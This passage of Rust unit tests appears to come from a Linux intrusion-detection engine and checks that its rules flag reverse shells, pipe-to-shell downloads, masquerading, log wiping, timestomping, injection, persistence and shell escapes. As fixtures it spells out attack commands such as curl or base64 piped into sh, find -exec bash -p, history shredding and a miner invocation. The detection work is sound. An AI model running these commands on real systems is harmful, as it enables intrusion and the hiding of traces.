        fn new() -> Self {
            let mut w = World {
                tree: ProcessTree::new(1000, Duration::from_secs(60)),
                state: DetectState::new(),
                t: 1_000_000_000,
            };
            w.exec(1, 0, "/sbin/init", &["/sbin/init"]);
            w
        }

        fn event(&mut self, pid: u32, payload: Payload) -> EnrichedEvent {
            self.t += 1_000_000;
            let event = Event {
                boot_ns: self.t,
                tid: pid,
                pid,
                uid: 0,
                gid: 0,
                start_boot_ns: pid as u64,
                cgroup_id: 1,
                comm: "x".into(),
                payload,
            };
            let mut wl = |_: u32, _: u64| Arc::new(Workload::default());
            self.tree.apply(&event, &mut wl);
            let p = self.tree.get(pid);
            EnrichedEvent {
                time_unix_nanos: 0,
                process: ProcessView {
                    pid,
                    ppid: p.map(|p| p.ppid).unwrap_or(0),
                    image: p.map(|p| p.image.clone()).unwrap_or_default(),
                    comm: "x".into(),
                    uid: 0,
                    euid: 0,
                    workload: Arc::new(Workload::default()),
                },
                ancestry: self.tree.ancestry(pid),
                event: Arc::new(event),
            }
        }

        fn run(&mut self, ev: EnrichedEvent) -> Vec<Finding> {
            self.state.before(&ev);
            let mut ctx = Ctx {
                ev: &ev,
                tree: &self.tree,
                state: &mut self.state,
            };
            let f = run_all(&mut ctx);
            self.state.update(&ev);
            f
        }

        fn exec_full(
            &mut self,
            pid: u32,
            ppid: u32,
            exe: &str,
            argv: &[&str],
            f: impl FnOnce(&mut Exec),
        ) -> Vec<Finding> {
            let mut x = Exec {
                ppid,
                euid: 0,
                egid: 0,
                exe: exe.into(),
                argv: argv.iter().map(|s| s.to_string()).collect(),
                argv_truncated: false,
                exe_ino: pid as u64 + 1000,
                exe_dev: 1,
                exe_memfd: false,
                exe_deleted: false,
                script: None,
                ld_preload: None,
                copy_of: None,
                history_off: false,
                stdio: [Stdio::CharDevice; 3],
                frozen: false,
                ..Default::default()
            };
            f(&mut x);
            let ev = self.event(pid, Payload::Exec(x));
            self.run(ev)
        }

        fn exec(&mut self, pid: u32, ppid: u32, exe: &str, argv: &[&str]) -> Vec<Finding> {
            self.exec_full(pid, ppid, exe, argv, |_| {})
        }

        fn listen(&mut self, pid: u32) {
            let ev = self.event(
                pid,
                Payload::Listen(crate::model::event::Listen {
                    protocol: "tcp".into(),
                    addr: "127.0.0.1".parse().unwrap(),
                    port: 3000,
                    rewritten_argv: None,
                }),
            );
            self.run(ev);
        }

        fn node_server(&mut self) {
            self.exec(100, 1, "/usr/bin/node", &["remix-serve", "build/index.js"]);
            self.listen(100);
        }
    }

    fn rules(f: &[Finding]) -> Vec<&str> {
        f.iter().map(|f| f.rule.as_str()).collect()
    }

    #[test]
    fn server_spawning_a_shell_fires_but_a_build_running_cc_does_not() {
        let mut w = World::new();
        w.node_server();
        let f = w.exec(101, 100, "/usr/bin/dash", &["/bin/sh", "-c", "curl x | sh"]);
        assert!(rules(&f).contains(&ids::SERVER_CHILD));
        assert!(f.iter().any(|f| f.mitre.contains(&"T1190".to_string())));
        // curl under the server's shell fires too.
        let f = w.exec(102, 101, "/usr/bin/curl", &["curl", "-s", "http://x/"]);
        assert!(rules(&f).contains(&ids::SERVER_CHILD));
        // Near miss: make (not a server) running cc and a shell.
        w.exec(200, 1, "/usr/bin/make", &["make"]);
        let f = w.exec(
            201,
            200,
            "/usr/bin/dash",
            &["/bin/sh", "-c", "cc -O2 -o app main.c"],
        );
        assert!(f.is_empty(), "{f:?}");
        let f = w.exec(202, 201, "/usr/bin/cc", &["cc", "-O2"]);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn server_running_git_directly_is_not_a_shell_or_tool_finding() {
        let mut w = World::new();
        w.node_server();
        // node -> git (no shell): git is none of the suspicious categories.
        let f = w.exec(103, 100, "/usr/bin/git", &["git", "--version"]);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn shell_started_by_sshd_is_quiet() {
        let mut w = World::new();
        w.exec(50, 1, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"]);
        w.listen(50);
        // sshd forks a per-session sshd which execs a login shell: the session
        // process re-execs sshd (not a server itself: exec clears the flag).
        w.exec(51, 50, "/usr/sbin/sshd", &["sshd: root@pts/0"]);
        let f = w.exec(52, 51, "/usr/bin/bash", &["-bash"]);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn downloaded_file_made_executable_and_run() {
        let mut w = World::new();
        w.exec(
            300,
            1,
            "/usr/bin/curl",
            &["curl", "-o", "/home/u/x", "http://h/x"],
        );
        let ev = w.event(
            300,
            Payload::FileOpen(FileOpen {
                path: "/home/u/x".into(),
                flags: 0o1101,
                mode: 0o100644,
                ino: 77,
                dev: 9,
                io_uring: false,
            }),
        );
        w.run(ev);
        w.exec(301, 1, "/usr/bin/chmod", &["chmod", "+x", "x"]);
        let ev = w.event(
            301,
            Payload::Chmod(Chmod {
                path: "/home/u/x".into(),
                mode: 0o755,
            }),
        );
        let f = w.run(ev);
        assert_eq!(rules(&f), [ids::INGRESS]);
        // The exec of the same inode does not fire twice.
        let f = w.exec_full(302, 1, "/home/u/x", &["x"], |x| {
            x.exe_ino = 77;
            x.exe_dev = 9;
        });
        assert!(!rules(&f).contains(&ids::INGRESS));
    }

    #[test]
    fn compiler_output_run_is_not_ingress() {
        let mut w = World::new();
        w.exec(400, 1, "/usr/bin/ld", &["ld", "-o", "app"]);
        let ev = w.event(
            400,
            Payload::FileOpen(FileOpen {
                path: "/home/u/app".into(),
                flags: 0o1101,
                mode: 0o100755,
                ino: 88,
                dev: 9,
                io_uring: false,
            }),
        );
        w.run(ev);
        let f = w.exec_full(401, 1, "/home/u/app", &["./app"], |x| {
            x.exe_ino = 88;
            x.exe_dev = 9;
        });
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn writer_that_connected_out_counts_as_network_source() {
        let mut w = World::new();
        w.exec(500, 1, "/usr/bin/python3", &["python3", "fetch.py"]);
        let ev = w.event(
            500,
            Payload::Connect(Connect {
                protocol: "tcp".into(),
                daddr: "203.0.113.9".parse().unwrap(),
                dport: 80,
                saddr: "10.0.0.2".parse().unwrap(),
                sport: 5555,
                ret: Some(0),
                send_to: false,
                rewritten_argv: None,
            }),
        );
        w.run(ev);
        let ev = w.event(
            500,
            Payload::FileOpen(FileOpen {
                path: "/tmp/p".into(),
                flags: 0o101,
                mode: 0o100644,
                ino: 99,
                dev: 9,
                io_uring: false,
            }),
        );
        w.run(ev);
        assert!(w
            .state
            .files
            .peek_file((9, 99))
            .is_some_and(|p| p.origin == Origin::Network));
    }

    #[test]
    fn masquerading_and_locations() {
        let mut w = World::new();
        let f = w.exec(600, 1, "/var/lib/svc/.fonts/less", &["less", "-R"]);
        let r = rules(&f);
        assert!(r.contains(&ids::MASQUERADE), "{r:?}");
        assert!(r.contains(&ids::HIDDEN_EXEC), "{r:?}");
        let f = w.exec(601, 1, "/srv/www/uploads/atd", &["atd", "-f"]);
        assert!(rules(&f).contains(&ids::MASQUERADE));
        let f = w.exec(607, 1, "/var/tmp/k/systemd-logind", &["systemd-logind"]);
        assert!(rules(&f).contains(&ids::MASQUERADE));
        assert!(rules(&f).contains(&ids::TEMP_EXEC));
        // Near misses: real vim, a login shell "-bash", node renamed by exec -a.
        assert!(w
            .exec(602, 1, "/usr/bin/vim.basic", &["vim", "notes"])
            .is_empty());
        assert!(w.exec(603, 1, "/usr/bin/bash", &["-bash"]).is_empty());
        assert!(w
            .exec(604, 1, "/usr/bin/node", &["api-gateway", "dist/main.js"])
            .is_empty());
        assert!(w
            .exec(605, 1, "/root/.cargo/bin/cargo", &["cargo", "build"])
            .is_empty());
        let f = w.exec(606, 1, "/usr/local/sbin/x", &["[kworker/0:1]"]);
        assert!(rules(&f).contains(&ids::MASQUERADE));
    }

    #[test]
    fn a_tools_name_is_judged_by_place_and_only_a_daemons_is_never_learned() {
        let mut w = World::new();
        // A user's own builds of everyday tools: quiet.
        for exe in [
            "/home/dev/bin/htop",
            "/srv/tools/nginx/sbin/nginx",
            "/home/ci/src/vim/src/vim",
        ] {
            let f = w.exec(700, 1, exe, &[basename(exe)]);
            assert!(f.is_empty(), "{exe}: {f:?}");
        }
        // A Linuxbrew tool lives under a hidden directory: reported, but the
        // baseline may learn it.
        let f = w.exec(701, 1, "/home/linuxbrew/.linuxbrew/bin/htop", &["htop"]);
        let m: Vec<_> = f.iter().filter(|f| f.rule == ids::MASQUERADE).collect();
        assert_eq!(m.len(), 1, "{f:?}");
        assert!(!m[0].never_suppress);
        // A daemon's name outside the system's directories is never learned.
        let f = w.exec(702, 1, "/home/dev/bin/sshd", &["sshd"]);
        let m: Vec<_> = f.iter().filter(|f| f.rule == ids::MASQUERADE).collect();
        assert_eq!(m.len(), 1, "{f:?}");
        assert!(m[0].never_suppress);
        // A tool's name on a fetched file, wherever it is.
        w.exec(703, 1, "/usr/bin/wget", &["wget", "h"]);
        open_for_write(&mut w, 703, "/home/dev/bin/ps", 4, 404);
        let f = w.exec_full(704, 1, "/home/dev/bin/ps", &["ps", "aux"], |x| {
            x.exe_dev = 4;
            x.exe_ino = 404;
        });
        assert!(rules(&f).contains(&ids::MASQUERADE), "{f:?}");
    }

    #[test]
    fn logs_emptied_or_shredded_by_non_keepers_are_indicator_removal() {
        let mut w = World::new();
        let open = |w: &mut World, pid: u32, path: &str, flags: u32| {
            let ev = w.event(
                pid,
                Payload::FileOpen(FileOpen {
                    path: path.into(),
                    flags,
                    mode: 0o100640,
                    ino: 77,
                    dev: 1,
                    io_uring: false,
                }),
            );
            w.run(ev)
        };
        w.exec(1100, 1, "/usr/bin/bash", &["bash"]);
        let f = open(&mut w, 1100, "/var/log/auth.log", 0o1001);
        assert!(rules(&f).contains(&ids::LOG_TAMPERING), "{f:?}");
        assert!(f[0].mitre.contains(&"T1070.002".to_string()));
        w.exec(
            1101,
            1100,
            "/usr/bin/shred",
            &["shred", "-u", "/root/.bash_history"],
        );
        let f = open(&mut w, 1101, "/root/.bash_history", 0o1);
        assert!(rules(&f).contains(&ids::LOG_TAMPERING), "{f:?}");
        w.exec(
            1102,
            1100,
            "/usr/bin/truncate",
            &["truncate", "-s0", "/var/log/wtmp"],
        );
        let f = open(&mut w, 1102, "/var/log/wtmp", 0o101);
        assert!(rules(&f).contains(&ids::LOG_TAMPERING), "{f:?}");
        // Near misses: appending to a log, logrotate truncating, a shell
        // rewriting its own history, truncating an application's file.
        w.exec(1103, 1100, "/usr/bin/bash", &["bash"]);
        assert!(open(&mut w, 1103, "/var/log/app/app.log", 0o2001).is_empty());
        w.exec(
            1104,
            1,
            "/usr/sbin/logrotate",
            &["logrotate", "/etc/logrotate.conf"],
        );
        assert!(open(&mut w, 1104, "/var/log/syslog", 0o1001).is_empty());
        assert!(open(&mut w, 1103, "/home/u/.bash_history", 0o1001).is_empty());
        assert!(open(&mut w, 1103, "/srv/app/cache.json", 0o1001).is_empty());
    }

    #[test]
    fn chosen_times_on_files_that_matter_are_timestomping() {
        let mut w = World::new();
        let utimes = |w: &mut World, pid: u32, path: &str| {
            let ev = w.event(
                pid,
                Payload::Utimes(crate::model::event::Utimes { path: path.into() }),
            );
            w.run(ev)
        };
        w.exec(
            1200,
            1,
            "/usr/bin/touch",
            &["touch", "-r", "/bin/ls", "/usr/local/bin/x"],
        );
        let f = utimes(&mut w, 1200, "/usr/local/bin/x");
        assert!(rules(&f).contains(&ids::TIMESTOMP), "{f:?}");
        assert!(f[0].mitre.contains(&"T1070.006".to_string()));
        w.exec(1201, 1, "/usr/bin/python3", &["python3", "-c", "import os"]);
        let f = utimes(&mut w, 1201, "/etc/cron.d/sync");
        assert!(rules(&f).contains(&ids::TIMESTOMP), "{f:?}");
        let f = utimes(&mut w, 1201, "/srv/app/.cache/.k/agent");
        assert!(rules(&f).contains(&ids::TIMESTOMP), "{f:?}");
        // A fetched file in an application's directory: `touch` opening it
        // (no truncation) does not clear where it came from.
        w.exec(
            1205,
            1,
            "/usr/bin/curl",
            &["curl", "-o", "/srv/a/bin/h", "u"],
        );
        open_for_write(&mut w, 1205, "/srv/a/bin/h", 3, 303);
        w.exec(
            1206,
            1,
            "/usr/bin/touch",
            &["touch", "-r", "/bin/ls", "/srv/a/bin/h"],
        );
        // touch opens it O_WRONLY|O_CREAT|O_NONBLOCK|O_NOCTTY first.
        open_with(&mut w, 1206, "/srv/a/bin/h", (3, 303), 0o4501);
        let f = utimes(&mut w, 1206, "/srv/a/bin/h");
        assert!(rules(&f).contains(&ids::TIMESTOMP), "{f:?}");
        // Near misses: the same file rewritten whole by a build first, an
        // unpacking into a system dir, a copy preserving times, touch -d on
        // a build file.
        w.exec(1207, 1, "/usr/bin/ld", &["ld", "-o", "/srv/a/bin/h"]);
        open_for_write(&mut w, 1207, "/srv/a/bin/h", 3, 303);
        assert!(utimes(&mut w, 1206, "/srv/a/bin/h").is_empty());
        w.exec(
            1202,
            1,
            "/usr/bin/tar",
            &["tar", "xf", "a.tar", "-C", "/usr/local"],
        );
        assert!(utimes(&mut w, 1202, "/usr/local/bin/tool").is_empty());
        w.exec(
            1203,
            1,
            "/usr/bin/cp",
            &["cp", "-a", "x", "/usr/local/bin/y"],
        );
        assert!(utimes(&mut w, 1203, "/usr/local/bin/y").is_empty());
        w.exec(
            1204,
            1,
            "/usr/bin/touch",
            &["touch", "-d", "@0", "build/out.o"],
        );
        assert!(utimes(&mut w, 1204, "/home/ci/proj/build/out.o").is_empty());
    }

    #[test]
    fn a_process_renaming_itself_as_a_kernel_thread_or_daemon_is_masquerading() {
        let mut w = World::new();
        let rename = |w: &mut World, pid: u32, new: &str, argv: &[&str]| {
            let ev = w.event(
                pid,
                Payload::Comm(crate::model::event::CommChange {
                    new_comm: new.into(),
                    argv: argv.iter().map(|s| s.to_string()).collect(),
                }),
            );
            w.run(ev)
        };
        w.exec(1300, 1, "/usr/bin/python3.12", &["python3", "w.py"]);
        let f = rename(&mut w, 1300, "kswapd0", &["[kswapd0]"]);
        assert!(rules(&f).contains(&ids::MASQUERADE), "{f:?}");
        w.exec(1301, 1, "/srv/app/bin/agent", &["agent"]);
        let f = rename(&mut w, 1301, "rsyslogd", &["agent"]);
        assert!(rules(&f).contains(&ids::MASQUERADE), "{f:?}");
        // Near misses: a program naming itself (cut to 15 bytes), a worker
        // title, a thread-pool style name.
        w.exec(
            1302,
            1,
            "/usr/lib/systemd/systemd-networkd-wait-online",
            &["x"],
        );
        assert!(rename(&mut w, 1302, "systemd-network", &["x"]).is_empty());
        w.exec(1303, 1, "/usr/bin/node", &["node", "server.js"]);
        assert!(rename(&mut w, 1303, "node-worker", &["node", "server.js"]).is_empty());
        assert!(rename(&mut w, 1303, "MainThread", &["node"]).is_empty());
    }

    #[test]
    fn writing_another_processs_memory_is_injection() {
        let mut w = World::new();
        w.exec(1400, 1, "/usr/sbin/nginx", &["nginx"]);
        w.exec(1401, 1, "/usr/bin/python3", &["python3", "inj.py"]);
        let f = open_with(&mut w, 1401, "/proc/1400/mem", (4, 1), 0o2);
        assert!(rules(&f).contains(&ids::INJECTION), "{f:?}");
        assert!(f[0].summary.contains("nginx"), "{f:?}");
        // Near misses: its own memory, a debugger, another /proc file, a
        // file that only looks like it.
        assert!(open_with(&mut w, 1401, "/proc/1401/mem", (4, 2), 0o2).is_empty());
        w.exec(1402, 1, "/usr/bin/gdb", &["gdb", "-p", "1400"]);
        assert!(open_with(&mut w, 1402, "/proc/1400/mem", (4, 1), 0o2).is_empty());
        assert!(open_with(&mut w, 1401, "/proc/1400/oom_score_adj", (4, 3), 0o1).is_empty());
        assert!(open_with(&mut w, 1401, "/srv/proc/1400/mem", (5, 3), 0o1101).is_empty());
    }

    #[test]
    fn fileless_and_reverse_shell() {
        let mut w = World::new();
        let f = w.exec_full(700, 1, "/memfd:kworker", &["kworker"], |x| {
            x.exe_memfd = true
        });
        assert!(rules(&f).contains(&ids::FILELESS));
        let f = w.exec_full(701, 1, "/usr/bin/bash", &["bash", "-i"], |x| {
            x.stdio = [Stdio::InetSocket, Stdio::InetSocket, Stdio::InetSocket]
        });
        assert_eq!(rules(&f), [ids::REVERSE_SHELL]);
        // Near miss: a shell whose stdio is a Unix socket (systemd journal).
        let f = w.exec_full(702, 1, "/usr/bin/bash", &["bash", "-c", "x"], |x| {
            x.stdio = [Stdio::CharDevice, Stdio::UnixSocket, Stdio::UnixSocket]
        });
        assert!(f.is_empty(), "{f:?}");
        // Interpreter connects out, then starts an interactive shell on a pty.
        w.exec(710, 1, "/usr/bin/python3.11", &["python3", "-c", "..."]);
        let ev = w.event(
            710,
            Payload::Connect(Connect {
                protocol: "tcp".into(),
                daddr: "198.51.100.7".parse().unwrap(),
                dport: 4444,
                saddr: "10.0.0.2".parse().unwrap(),
                sport: 40000,
                ret: Some(0),
                send_to: false,
                rewritten_argv: None,
            }),
        );
        w.run(ev);
        let f = w.exec(711, 710, "/usr/bin/dash", &["/bin/sh"]);
        assert!(rules(&f).contains(&ids::REVERSE_SHELL), "{f:?}");
        // Near miss: python that connected out running `sh -c cmd`.
        let f = w.exec(712, 710, "/usr/bin/dash", &["/bin/sh", "-c", "ls"]);
        assert!(!rules(&f).contains(&ids::REVERSE_SHELL), "{f:?}");
    }

    #[test]
    fn persistence_preload_setuid_miner() {
        let mut w = World::new();
        w.exec(800, 1, "/usr/bin/bash", &["bash"]);
        for (path, tech) in [
            ("/etc/cron.d/job", "T1053.003"),
            ("/root/.bashrc", "T1546.004"),
            ("/root/.ssh/authorized_keys", "T1098.004"),
            ("/etc/systemd/system/evil.service", "T1543.002"),
        ] {
            let ev = w.event(
                800,
                Payload::FileOpen(FileOpen {
                    path: path.into(),
                    flags: 0o2101,
                    mode: 0o100644,
                    ino: 5,
                    dev: 1,
                    io_uring: false,
                }),
            );
            let f = w.run(ev);
            assert_eq!(f[0].mitre, [tech], "{path}");
        }
        let ev = w.event(
            800,
            Payload::FileOpen(FileOpen {
                path: "/home/u/notes.txt".into(),
                flags: 0o101,
                mode: 0o100644,
                ino: 6,
                dev: 1,
                io_uring: false,
            }),
        );
        assert!(w.run(ev).is_empty());
        let f = w.exec_full(801, 800, "/usr/bin/ls", &["ls"], |x| {
            x.ld_preload = Some("/tmp/inj.so".into())
        });
        assert_eq!(rules(&f), [ids::LD_PRELOAD]);
        let ev = w.event(
            800,
            Payload::Chmod(Chmod {
                path: "/tmp/helper".into(),
                mode: 0o4755,
            }),
        );
        assert!(rules(&w.run(ev)).contains(&ids::SETUID));
        let ev = w.event(
            800,
            Payload::Chmod(Chmod {
                path: "/tmp/tool".into(),
                mode: 0o755,
            }),
        );
        assert!(w.run(ev).is_empty(), "plain +x is not setuid");
        let f = w.exec(
            802,
            800,
            "/tmp/x/xmrig",
            &["xmrig", "-o", "stratum+tcp://p:3333"],
        );
        assert!(rules(&f).contains(&ids::MINER));
        let f = w.exec(803, 800, "/usr/bin/curl", &["curl", "https://example.org/"]);
        assert!(f.is_empty());
    }

    /// Sets fd `fd` of an exec to a pipe with inode `ino`.
    fn piped(x: &mut Exec, fd: usize, ino: u64) {
        x.stdio[fd] = Stdio::Pipe;
        x.stdio_ids.ino[fd] = ino;
        x.stdio_ids.dev[fd] = 12;
    }

    /// Sets fd 1 of an exec to the regular file (dev, ino).
    fn redirected(x: &mut Exec, dev: u32, ino: u64) {
        x.stdio[1] = Stdio::File;
        x.stdio_ids.ino[1] = ino;
        x.stdio_ids.dev[1] = dev;
    }

    /// A truncating write-open (O_WRONLY|O_CREAT|O_TRUNC).
    fn open_for_write(w: &mut World, pid: u32, path: &str, dev: u32, ino: u64) -> Vec<Finding> {
        open_with(w, pid, path, (dev, ino), 0o1101)
    }

    fn open_with(
        w: &mut World,
        pid: u32,
        path: &str,
        file: (u32, u64),
        flags: u32,
    ) -> Vec<Finding> {
        let ev = w.event(
            pid,
            Payload::FileOpen(FileOpen {
                path: path.into(),
                flags,
                mode: 0o100644,
                ino: file.1,
                dev: file.0,
                io_uring: false,
            }),
        );
        w.run(ev)
    }

    #[test]
    fn processes_joined_by_one_pipe_feed_a_shell_whichever_execs_first() {
        // Decoder first, then the shell reading its pipe.
        let mut w = World::new();
        w.exec(900, 1, "/usr/bin/bash", &["bash", "job.sh"]);
        let f = w.exec_full(901, 900, "/usr/bin/base64", &["base64", "-d"], |x| {
            piped(x, 1, 7001)
        });
        assert!(f.is_empty(), "{f:?}");
        let f = w.exec_full(902, 900, "/usr/bin/dash", &["sh"], |x| piped(x, 0, 7001));
        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
        assert!(f[0].mitre.contains(&"T1140".to_string()));
        // Shell first (the parent forks both; either may exec first), an
        // unusual shell and downloader.
        let f = w.exec_full(904, 900, "/usr/bin/ksh93", &["ksh"], |x| piped(x, 0, 7002));
        assert!(f.is_empty(), "{f:?}");
        let f = w.exec_full(903, 900, "/opt/bin/wget", &["wget", "-qO-", "h"], |x| {
            piped(x, 1, 7002)
        });
        assert!(f.is_empty(), "ksh93 is not a shell by name: {f:?}");
        let f = w.exec_full(906, 900, "/usr/bin/mksh", &["mksh"], |x| piped(x, 0, 7003));
        assert!(f.is_empty(), "{f:?}");
        let f = w.exec_full(905, 900, "/opt/bin/wget", &["wget", "-qO-", "h"], |x| {
            piped(x, 1, 7003)
        });
        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
        // Through a middle stage: curl | gunzip | sh.
        w.exec_full(910, 900, "/usr/bin/curl", &["curl", "-s", "h"], |x| {
            piped(x, 1, 7010)
        });
        w.exec_full(911, 900, "/usr/bin/gunzip", &["gunzip"], |x| {
            piped(x, 0, 7010);
            piped(x, 1, 7011);
        });
        let f = w.exec_full(912, 900, "/bin/bash", &["bash", "-s", "--", "x"], |x| {
            piped(x, 0, 7011)
        });
        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");

        // Near misses: a downloader piped into a non-shell (shuf, less), a
        // shell reading a pipe fed by something else, siblings on different
        // pipes, and a shell given a script file.
        let mut w = World::new();
        w.exec(920, 1, "/usr/bin/bash", &["bash"]);
        w.exec_full(921, 920, "/usr/bin/curl", &["curl", "h"], |x| {
            piped(x, 1, 8001)
        });
        let f = w.exec_full(922, 920, "/usr/bin/shuf", &["shuf"], |x| piped(x, 0, 8001));
        assert!(f.is_empty(), "{f:?}");
        w.exec_full(923, 920, "/usr/bin/git", &["git", "log"], |x| {
            piped(x, 1, 8002)
        });
        let f = w.exec_full(924, 920, "/usr/bin/dash", &["sh"], |x| piped(x, 0, 8002));
        assert!(f.is_empty(), "{f:?}");
        w.exec_full(925, 920, "/usr/bin/curl", &["curl", "h"], |x| {
            piped(x, 1, 8003)
        });
        let f = w.exec_full(926, 920, "/usr/bin/dash", &["sh"], |x| piped(x, 0, 8004));
        assert!(f.is_empty(), "{f:?}");
        w.exec_full(927, 920, "/usr/bin/curl", &["curl", "h"], |x| {
            piped(x, 1, 8005)
        });
        let f = w.exec_full(928, 920, "/usr/bin/dash", &["sh", "build.sh"], |x| {
            piped(x, 0, 8005)
        });
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn a_command_line_rewritten_to_pass_for_another_is_found_at_its_connect() {
        let mut w = World::new();
        let connect = |w: &mut World, pid: u32, shown: &[&str]| {
            let ev = w.event(
                pid,
                Payload::Connect(Connect {
                    protocol: "tcp".into(),
                    daddr: "198.51.100.7".parse().unwrap(),
                    dport: 443,
                    saddr: "10.0.0.2".parse().unwrap(),
                    sport: 40000,
                    ret: Some(0),
                    send_to: false,
                    rewritten_argv: Some(shown.iter().map(|s| s.to_string()).collect()),
                }),
            );
            w.run(ev)
        };
        w.exec(1100, 1, "/srv/app/.cache/agent", &["./agent", "-q"]);
        let f = connect(&mut w, 1100, &["[kworker/0:2]"]);
        assert_eq!(rules(&f), [ids::MASQUERADE], "{f:?}");
        assert!(f[0].summary.contains("started as \"./agent -q\""), "{f:?}");
        w.exec(1101, 1, "/usr/bin/python3.11", &["python3", "beacon.py"]);
        let f = connect(&mut w, 1101, &["sshd: root@notty"]);
        assert_eq!(rules(&f), [ids::MASQUERADE], "{f:?}");
        // Near misses: servers naming their own processes.
        w.exec(1110, 1, "/usr/sbin/nginx", &["nginx", "-g", "daemon off;"]);
        assert!(connect(&mut w, 1110, &["nginx: worker process"]).is_empty());
        w.exec(1111, 1, "/usr/sbin/sshd", &["/usr/sbin/sshd", "-D"]);
        assert!(connect(&mut w, 1111, &["sshd: root@pts/0"]).is_empty());
        w.exec(1112, 1, "/usr/bin/python3", &["gunicorn", "app:app"]);
        assert!(connect(&mut w, 1112, &["gunicorn: worker [app]"]).is_empty());
    }

    #[test]
    fn a_shell_started_through_a_command_escape_is_found() {
        let pipe = |x: &mut Exec| x.stdio[0] = Stdio::Pipe;
        let mut w = World::new();
        w.exec(1000, 1, "/usr/bin/bash", &["bash"]);
        // awk's system("/bin/sh"): through `sh -c /bin/sh` (no exec
        // optimization), or directly (the intermediate exec'ed itself).
        w.exec_full(
            1001,
            1000,
            "/usr/bin/gawk",
            &["awk", "BEGIN {system(\"/bin/sh\")}"],
            pipe,
        );
        w.exec_full(1002, 1001, "/usr/bin/dash", &["sh", "-c", "/bin/sh"], pipe);
        let f = w.exec_full(1003, 1002, "/usr/bin/dash", &["/bin/sh"], pipe);
        assert_eq!(rules(&f), [ids::SHELL_ESCAPE], "{f:?}");
        assert!(f[0].summary.contains("through dash"), "{}", f[0].summary);
        let f = w.exec_full(1004, 1001, "/usr/bin/dash", &["/bin/sh"], pipe);
        assert_eq!(rules(&f), [ids::SHELL_ESCAPE], "{f:?}");
        // find -exec, under sudo: T1548.003 too; input from a file.
        w.exec(1010, 1000, "/usr/bin/sudo", &["sudo", "find", "."]);
        w.exec_full(
            1011,
            1010,
            "/usr/bin/find",
            &["find", ".", "-exec", "/bin/bash", "-p", ";"],
            |x| x.stdio[0] = Stdio::File,
        );
        let f = w.exec_full(1012, 1011, "/usr/bin/bash", &["/bin/bash", "-p"], |x| {
            x.stdio[0] = Stdio::File
        });
        assert_eq!(rules(&f), [ids::SHELL_ESCAPE], "{f:?}");
        assert!(f[0].mitre.contains(&"T1548.003".to_string()), "{f:?}");
        // An interpreter's os.system("sh") through env.
        w.exec_full(
            1020,
            1000,
            "/usr/bin/python3.11",
            &["python3", "app.py"],
            pipe,
        );
        w.exec_full(1021, 1020, "/usr/bin/env", &["env", "sh"], pipe);
        let f = w.exec_full(1022, 1021, "/usr/bin/dash", &["sh"], pipe);
        assert_eq!(rules(&f), [ids::SHELL_ESCAPE], "{f:?}");

        // Near misses. A shell fed by a pipe from a shell (`... | sh` typed
        // in a session), or started by sshd (`ssh host < cmds`).
        let f = w.exec_full(1030, 1000, "/usr/bin/dash", &["sh"], pipe);
        assert!(f.is_empty(), "{f:?}");
        w.exec(1040, 1, "/usr/sbin/sshd", &["sshd: u"]);
        let f = w.exec_full(1041, 1040, "/usr/bin/bash", &["bash"], pipe);
        assert!(f.is_empty(), "{f:?}");
        // The escape on a terminal: a person's shell (`:!sh` in vim).
        w.exec(1050, 1000, "/usr/bin/vim", &["vim", "notes"]);
        w.exec(1051, 1050, "/usr/bin/dash", &["sh", "-c", "/bin/sh"]);
        let f = w.exec(1052, 1051, "/usr/bin/dash", &["/bin/sh"]);
        assert!(f.is_empty(), "{f:?}");
        // awk and vim running commands, not shells reading input.
        w.exec_full(1060, 1000, "/usr/bin/gawk", &["awk", "{print}"], pipe);
        let f = w.exec_full(1061, 1060, "/usr/bin/dash", &["sh", "-c", "sort -u"], pipe);
        assert!(f.is_empty(), "{f:?}");
        let f = w.exec_full(1062, 1060, "/usr/bin/dash", &["sh", "x.sh"], pipe);
        assert!(f.is_empty(), "{f:?}");
        // A `sh -c` doing more than starting the shell is not looked through.
        w.exec_full(1070, 1000, "/usr/bin/gawk", &["awk", "x"], pipe);
        w.exec_full(
            1071,
            1070,
            "/usr/bin/dash",
            &["sh", "-c", "cd /x && make"],
            pipe,
        );
        let f = w.exec_full(1072, 1071, "/usr/bin/dash", &["sh"], pipe);
        assert!(f.is_empty(), "{f:?}");
        // A program without a command escape (a CI runner feeding a script).
        w.exec(1080, 1, "/usr/bin/gitlab-runner", &["gitlab-runner", "run"]);
        let f = w.exec_full(1081, 1080, "/usr/bin/bash", &["bash", "--login"], pipe);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn a_wrapper_between_the_pipe_and_the_shell_is_looked_through() {
        let mut w = World::new();
        w.exec(930, 1, "/usr/bin/bash", &["bash"]);
        w.exec_full(931, 930, "/usr/bin/curl", &["curl", "-fsSL", "h"], |x| {
            piped(x, 1, 9001)
        });
        w.exec_full(932, 930, "/usr/bin/sudo", &["sudo", "-E", "bash"], |x| {
            piped(x, 0, 9001)
        });
        // sudo's child shell on a terminal of its own.
        let f = w.exec_full(933, 932, "/usr/bin/bash", &["bash"], |x| {
            x.stdio[0] = Stdio::CharDevice
        });
        assert!(rules(&f).contains(&ids::PIPE_TO_SHELL), "{f:?}");
        // Near miss: sudo reading an ordinary pipe.
        w.exec_full(941, 930, "/usr/bin/cat", &["cat", "f"], |x| {
            piped(x, 1, 9002)
        });
        w.exec_full(942, 930, "/usr/bin/sudo", &["sudo", "tee", "/x"], |x| {
            piped(x, 0, 9002)
        });
        let f = w.exec(943, 942, "/usr/bin/bash", &["bash"]);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn command_strings_feeding_shells_are_read_by_structure() {
        for (cmd, kind) in [
            ("echo aWQ= | base64 -d | sh", Some("decode")),
            ("curl -s http://h/i |/bin/sh", Some("download")),
            ("wget -qO- h | sudo -u root bash -s", Some("download")),
            ("curl h|ksh", Some("download")),
            ("X=1 curl h | env -i PATH=/bin dash", Some("download")),
            ("xxd -r -p <<< 6964 | busybox sh", Some("decode")),
